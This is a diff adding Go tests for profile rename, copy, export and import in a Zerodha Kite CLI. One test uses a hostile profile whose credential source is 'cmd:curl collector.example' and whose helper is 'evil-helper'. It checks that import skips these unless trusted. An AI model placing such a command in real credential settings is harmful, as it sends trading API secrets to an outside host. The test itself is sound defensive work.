@@ -1,11 +1,14 @@
 package cli
 
 import (
+	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 	"time"
 
 	"github.com/jatinbansal1998/zerodha-kite-cli/internal/config"
+	"github.com/jatinbansal1998/zerodha-kite-cli/internal/exitcode"
 )
 
 func TestConfigProfileAddUpsertOverwritesCredentials(t *testing.T) {
@@ -206,3 +209,277 @@ func TestConfigProfileImplicitActiveProfileBehavior(t *testing.T) {
 		t.Fatalf("expected active profile to auto-switch to %q, got %q", "beta", updated.ActiveProfile)
 	}
 }
+
+func TestConfigProfileRenameKeepsActiveProfile(t *testing.T) {
+	configPath := filepath.Join(t.TempDir(), "config.json")
+	cfg := config.Default()
+	cfg.ActiveProfile = "alpha"
+	cfg.Profiles["alpha"] = config.Profile{APIKey: "alpha_key", APISecret: "alpha_secret", AccessToken: "alpha_token"}
+	cfg.Profiles["beta"] = config.Profile{APIKey: "beta_key", APISecret: "beta_secret"}
+	saveTestConfig(t, configPath, cfg)
+
+	if _, _, err := executeCLICommand(t, configPath, "config", "profile", "rename", "alpha", "beta"); exitcode.Code(err) != exitcode.Config {
+		t.Fatalf("expected renaming onto an existing profile to fail, got %v", err)
+	}
+	if _, _, err := executeCLICommand(t, configPath, "config", "profile", "rename", "alpha", "main"); err != nil {
+		t.Fatalf("rename: %v", err)
+	}
+
+	saved := loadTestConfig(t, configPath)
+	if _, ok := saved.Profiles["alpha"]; ok {
+		t.Fatalf("expected the old profile name to be gone")
+	}
+	if saved.Profiles["main"].AccessToken != "alpha_token" || saved.ActiveProfile != "main" {
+		t.Fatalf("expected the renamed profile to stay active with its tokens, got %+v", saved)
+	}
+}
+
+func TestConfigProfileCopyLeavesTokensBehind(t *testing.T) {
+	configPath := filepath.Join(t.TempDir(), "config.json")
+	cfg := config.Default()
+	cfg.ActiveProfile = "main"
+	cfg.Profiles["main"] = config.Profile{
+		APIKey:       "main_key",
+		APISecret:    "main_secret",
+		AccessToken:  "main_token",
+		RefreshToken: "main_refresh",
+		LastLoginAt:  time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
+		Watchlists:   map[string][]string{"banks": {"NSE:HDFCBANK"}},
+	}
+	saveTestConfig(t, configPath, cfg)
+
+	if _, _, err := executeCLICommand(t, configPath, "config", "profile", "copy", "main", "spouse"); err != nil {
+		t.Fatalf("copy: %v", err)
+	}
+	if _, _, err := executeCLICommand(t, configPath, "config", "profile", "copy", "main", "backup", "--with-tokens"); err != nil {
+		t.Fatalf("copy with tokens: %v", err)
+	}
+
+	saved := loadTestConfig(t, configPath)
+	spouse := saved.Profiles["spouse"]
+	if spouse.APIKey != "main_key" || spouse.APISecret != "main_secret" || len(spouse.Watchlists["banks"]) != 1 {
+		t.Fatalf("expected keys and watchlists to be copied, got %+v", spouse)
+	}
+	if spouse.AccessToken != "" || spouse.RefreshToken != "" || !spouse.LastLoginAt.IsZero() {
+		t.Fatalf("expected tokens to be left behind, got %+v", spouse)
+	}
+	if saved.Profiles["backup"].RefreshToken != "main_refresh" {
+		t.Fatalf("expected --with-tokens to copy tokens, got %+v", saved.Profiles["backup"])
+	}
+	if saved.ActiveProfile != "main" || saved.Profiles["main"].AccessToken != "main_token" {
+		t.Fatalf("expected the source profile to be untouched, got %+v", saved)
+	}
+}
+
+func TestConfigProfileExportRedactedAndMergeImport(t *testing.T) {
+	dir := t.TempDir()
+	sourcePath := filepath.Join(dir, "source.json")
+	source := config.Default()
+	source.ActiveProfile = "main"
+	source.Profiles["main"] = config.Profile{
+		APIKey:       "new_key",
+		APISecret:    "source_secret",
+		AccessToken:  "source_token",
+		RefreshToken: "source_refresh",
+		Watchlists:   map[string][]string{"it": {"NSE:INFY"}},
+	}
+	source.Profiles["family"] = config.Profile{APIKey: "family_key", APISecret: "family_secret"}
+	saveTestConfig(t, sourcePath, source)
+
+	exportPath := filepath.Join(dir, "profiles.json")
+	if _, _, err := executeCLICommand(t, sourcePath, "config", "profile", "export", "--file", exportPath, "--redact"); err != nil {
+		t.Fatalf("export: %v", err)
+	}
+	exported := loadTestConfig(t, exportPath)
+	if exported.Profiles["main"].APISecret != "" || exported.Profiles["main"].AccessToken != "" || exported.Profiles["main"].APIKey != "new_key" {
+		t.Fatalf("expected secrets to be redacted from the export, got %+v", exported.Profiles["main"])
+	}
+
+	targetPath := filepath.Join(dir, "target.json")
+	target := config.Default()
+	target.Profiles["main"] = config.Profile{
+		APIKey:      "old_key",
+		APISecret:   "target_secret",
+		AccessToken: "target_token",
+		Watchlists:  map[string][]string{"banks": {"NSE:SBIN"}},
+	}
+	saveTestConfig(t, targetPath, target)
+
+	stdout, _, err := executeCLICommand(t, targetPath, "config", "profile", "import", exportPath)
+	if err != nil {
+		t.Fatalf("import: %v", err)
+	}
+	if !strings.Contains(stdout, "merged") || !strings.Contains(stdout, "added") {
+		t.Fatalf("expected merged and added actions, got %q", stdout)
+	}
+	merged := loadTestConfig(t, targetPath)
+	main := merged.Profiles["main"]
+	if main.APIKey != "new_key" || main.APISecret != "target_secret" || main.AccessToken != "target_token" {
+		t.Fatalf("expected a merge that keeps local secrets, got %+v", main)
+	}
+	if len(main.Watchlists) != 2 {
+		t.Fatalf("expected watchlists to be merged by name, got %v", main.Watchlists)
+	}
+	if merged.ActiveProfile != "family" {
+		t.Fatalf("expected an active profile to be picked after import, got %q", merged.ActiveProfile)
+	}
+
+	if _, _, err := executeCLICommand(t, targetPath, "config", "profile", "import", exportPath, "main", "--overwrite"); err != nil {
+		t.Fatalf("overwrite import: %v", err)
+	}
+	if replaced := loadTestConfig(t, targetPath).Profiles["main"]; replaced.APISecret != "" || len(replaced.Watchlists) != 1 {
+		t.Fatalf("expected --overwrite to replace the profile, got %+v", replaced)
+	}
+}
+
+func TestConfigProfileEncryptedExportRoundTrip(t *testing.T) {
+	dir := t.TempDir()
+	sourcePath := filepath.Join(dir, "source.json")
+	source := config.Default()
+	source.Profiles["main"] = config.Profile{APIKey: "main_key", APISecret: "main_secret", RefreshToken: "main_refresh"}
+	saveTestConfig(t, sourcePath, source)
+
+	exportPath := filepath.Join(dir, "profiles.json")
+	t.Setenv(exportPassphraseEnvVar, "export passphrase")
+	if _, _, err := executeCLICommand(t, sourcePath, "config", "profile", "export", "main", "--file", exportPath, "--encrypt"); err != nil {
+		t.Fatalf("export: %v", err)
+	}
+	raw, err := os.ReadFile(exportPath)
+	if err != nil {
+		t.Fatalf("read export: %v", err)
+	}
+	if strings.Contains(string(raw), "main_secret") || strings.Contains(string(raw), "main_refresh") {
+		t.Fatalf("expected secrets to be encrypted in the export, got %s", raw)
+	}
+
+	targetPath := filepath.Join(dir, "target.json")
+	t.Setenv(exportPassphraseEnvVar, "wrong passphrase")
+	if _, _, err := executeCLICommand(t, targetPath, "config", "profile", "import", exportPath); exitcode.Code(err) != exitcode.Auth {
+		t.Fatalf("expected a wrong passphrase to fail with an auth error, got %v", err)
+	}
+	t.Setenv(exportPassphraseEnvVar, "export passphrase")
+	if _, _, err := executeCLICommand(t, targetPath, "config", "profile", "import", exportPath); err != nil {
+		t.Fatalf("import: %v", err)
+	}
+	imported := loadTestConfig(t, targetPath)
+	if imported.Profiles["main"].APISecret != "main_secret" || imported.ActiveProfile != "main" {
+		t.Fatalf("expected the decrypted profile to be imported and activated, got %+v", imported)
+	}
+}
+
+func TestConfigProfileImportSkipsCommandsAndBaseURLUnlessTrusted(t *testing.T) {
+	dir := t.TempDir()
+	sourcePath := filepath.Join(dir, "source.json")
+	source := config.Default()
+	source.Profiles["main"] = config.Profile{
+		APIKey:      "main_key",
+		BaseURL:     "https://collector.example",
+		Credentials: &config.Credentials{Sources: map[string]string{"api_secret": "cmd:curl collector.example"}, Helper: "evil-helper"},
+	}
+	saveTestConfig(t, sourcePath, source)
+
+	exportPath := filepath.Join(dir, "profiles.json")
+	if _, _, err := executeCLICommand(t, sourcePath, "config", "profile", "export", "--file", exportPath); err != nil {
+		t.Fatalf("export: %v", err)
+	}
+
+	targetPath := filepath.Join(dir, "target.json")
+	target := config.Default()
+	target.Profiles["main"] = config.Profile{APIKey: "old_key", APISecret: "target_secret"}
+	saveTestConfig(t, targetPath, target)
+
+	stdout, stderr, err := executeCLICommand(t, targetPath, "config", "profile", "import", exportPath, "--json")
+	if err != nil {
+		t.Fatalf("import: %v", err)
+	}
+	if !strings.Contains(stdout, `"skipped": [`) || !strings.Contains(stderr, "skipped credentials and base_url for profile main") {
+		t.Fatalf("expected the skipped fields to be reported, got %q and %q", stdout, stderr)
+	}
+	main := loadTestConfig(t, targetPath).Profiles["main"]
+	if main.Credentials != nil || main.BaseURL != "" || main.APIKey != "main_key" {
+		t.Fatalf("expected credentials and base_url to be skipped on merge, got %+v", main)
+	}
+
+	if _, _, err := executeCLICommand(t, targetPath, "config", "profile", "import", exportPath, "--overwrite"); err != nil {
+		t.Fatalf("overwrite import: %v", err)
+	}
+	if main := loadTestConfig(t, targetPath).Profiles["main"]; main.Credentials != nil || main.BaseURL != "" {
+		t.Fatalf("expected credentials and base_url to be skipped on overwrite, got %+v", main)
+	}
+
+	stdout, stderr, err = executeCLICommand(t, targetPath, "config", "profile", "import", exportPath, "--trust-commands", "--with-base-url")
+	if err != nil {
+		t.Fatalf("trusted import: %v", err)
+	}
+	if stderr != "" || !strings.Contains(stdout, "api_key,base_url,credentials") {
+		t.Fatalf("expected the trusted fields to be listed as imported, got %q and %q", stdout, stderr)
+	}
+	main = loadTestConfig(t, targetPath).Profiles["main"]
+	if main.Credentials == nil || main.Credentials.Helper != "evil-helper" || main.BaseURL != "https://collector.example" {
+		t.Fatalf("expected the trusted fields to be imported, got %+v", main)
+	}
+}
+
+func TestConfigProfileExportAndImportLeaveTheirFileAlone(t *testing.T) {
+	configPath := filepath.Join(t.TempDir(), "config.json")
+	cfg := config.Default()
+	cfg.Profiles["main"] = config.Profile{APIKey: "main_key", APISecret: "main_secret"}
+	saveTestConfig(t, configPath, cfg)
+
+	exportDir := filepath.Join(t.TempDir(), "shared")
+	if err := os.Mkdir(exportDir, 0o755); err != nil {
+		t.Fatalf("create export dir: %v", err)
+	}
+	if err := os.Chmod(exportDir, 0o755); err != nil {
+		t.Fatalf("chmod export dir: %v", err)
+	}
+	exportPath := filepath.Join(exportDir, "profiles.json")
+	if _, _, err := executeCLICommand(t, configPath, "config", "profile", "export", "--file", exportPath); err != nil {
+		t.Fatalf("export: %v", err)
+	}
+	if mode := fileMode(t, exportPath); mode != 0o600 {
+		t.Fatalf("expected a 0600 export file, got %v", mode)
+	}
+	if mode := fileMode(t, exportDir); mode != 0o755 {
+		t.Fatalf("expected export to leave its directory mode alone, got %v", mode)
+	}
+
+	// A version 0 file would be migrated in place if import went through a
+	// config store.
+	importPath := filepath.Join(exportDir, "old.json")
+	original := []byte(`{"active_profile":"family","profiles":{"family":{"api_key":"family_key"}}}`)
+	if err := os.WriteFile(importPath, original, 0o644); err != nil {
+		t.Fatalf("write import file: %v", err)
+	}
+	if err := os.Chmod(importPath, 0o644); err != nil {
+		t.Fatalf("chmod import file: %v", err)
+	}
+	if _, _, err := executeCLICommand(t, configPath, "config", "profile", "import", importPath); err != nil {
+		t.Fatalf("import: %v", err)
+	}
+	if loadTestConfig(t, configPath).Profiles["family"].APIKey != "family_key" {
+		t.Fatal("expected the old file's profile to be imported")
+	}
+	if content, err := os.ReadFile(importPath); err != nil || string(content) != string(original) {
+		t.Fatalf("expected the import file to be unchanged, got %q, %v", content, err)
+	}
+	if mode := fileMode(t, importPath); mode != 0o644 {
+		t.Fatalf("expected the import file mode to be unchanged, got %v", mode)
+	}
+	if mode := fileMode(t, exportDir); mode != 0o755 {
+		t.Fatalf("expected import to leave its directory mode alone, got %v", mode)
+	}
+	entries, err := os.ReadDir(exportDir)
+	if err != nil || len(entries) != 2 {
+		t.Fatalf("expected no lock or backup files next to the import file, got %v, %v", entries, err)
+	}
+}
+
+func fileMode(t *testing.T, path string) os.FileMode {
+	t.Helper()
+	info, err := os.Stat(path)
+	if err != nil {
+		t.Fatalf("stat %s: %v", path, err)
+	}
+	return info.Mode().Perm()
+}